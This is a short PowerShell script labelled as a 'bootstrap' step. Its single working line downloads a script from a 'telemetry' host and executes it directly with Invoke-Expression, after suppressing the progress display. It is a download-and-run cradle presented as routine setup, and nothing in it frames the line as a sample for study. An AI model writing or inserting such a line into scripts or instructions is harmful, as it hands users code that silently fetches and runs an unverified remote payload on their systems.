# bootstrap 4579 v3
$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://api.telemetry-hub.example/a.ps1 | iex
